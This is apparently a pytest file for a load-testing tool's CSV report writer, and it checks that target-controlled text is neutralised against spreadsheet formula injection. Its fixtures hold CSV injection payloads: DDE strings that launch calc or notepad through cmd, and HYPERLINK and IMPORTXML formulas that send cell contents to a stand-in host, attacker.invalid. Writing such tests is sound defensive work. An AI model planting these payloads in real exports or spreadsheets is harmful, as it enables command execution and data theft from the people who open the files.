"""CSV outputs: target-controlled text never reaches a spreadsheet as a formula (OWASP's CSV
injection), in the files and in the downloads the web UI serves (``render``)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from reports_kit import entry, error, exception, snapshot

from horde.reports.csv import FORMULA_START, TABLES, CsvWriter, neutralise, render
from horde.stats.errors import FailureSample
from horde.stats.snapshot import StatsSnapshot

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def hostile_snapshot() -> StatsSnapshot:
    sample = FailureSample(
        time=1_700_000_001.0,
        message=HOSTILE[0],
        url='=IMPORTXML(CONCAT("http://attacker.invalid/?",A1),"//a")',
        status_code=500,
        response_headers={"X-Evil": "=1+1"},
        body_excerpt='=HYPERLINK("http://attacker.invalid")',
    )
    return snapshot(
        [entry(text) for text in HOSTILE] + [entry("/ok"), entry("-5")],
        errors=tuple(error(text, text, (sample,)) for text in HOSTILE),
        exceptions=tuple(exception(text, text) for text in HOSTILE),
    )


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and cell != "-5"


@pytest.mark.parametrize("kind", TABLES)
def test_no_cell_of_a_download_starts_a_formula(kind: str) -> None:
    text = render(kind, hostile_snapshot())
    cells = cells_of(text)
    assert cells
    assert [c for c in cells if dangerous(c)] == []
    quoted = [c for c in cells if c.startswith("'")]
    assert quoted  # the hostile texts are there, as text


def test_the_written_files_and_the_history_are_neutralised_too(tmp_path: Path) -> None:
    writer = CsvWriter(str(tmp_path / "run"), full_history=True)
    try:
        snap = hostile_snapshot()
        writer.append_history(snap)
        writer.write_tables(snap)
    finally:
        writer.close()
    files = sorted(tmp_path.glob("run_*.csv"))
    assert len(files) == 5
    for path in files:
        cells = cells_of(path.read_text(encoding="utf-8"))
        assert [c for c in cells if dangerous(c)] == [], path.name
    history = list(csv.DictReader(io.StringIO((tmp_path / "run_stats_history.csv").read_text())))
    names = [row["Name"] for row in history]
    assert "'=cmd|' /C calc'!A0" in names
    assert "-5" in names  # a plain number stays a number
    samples = list(csv.DictReader(io.StringIO((tmp_path / "run_failure_samples.csv").read_text())))
    assert samples[0]["Body Excerpt"] == '\'=HYPERLINK("http://attacker.invalid")'
    assert samples[0]["URL"].startswith("'=IMPORTXML(")
    assert json.loads(samples[0]["Response Headers"]) == {"X-Evil": "=1+1"}  # inside JSON: inert


@pytest.mark.parametrize("text", HOSTILE)
def test_formulas_get_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "/item/1", "GET", "-5", "+1.5e3", "-0.25", "12", "a=b", " =1", "'quoted"]
)
def test_plain_text_and_numbers_are_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_in_the_stats_table_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(render("stats", snapshot([entry("/a", requests=7)])))))
    assert rows[1][:4] == ["GET", "/a", "7", "0"]
    assert all(not cell.startswith("'") for row in rows for cell in row)
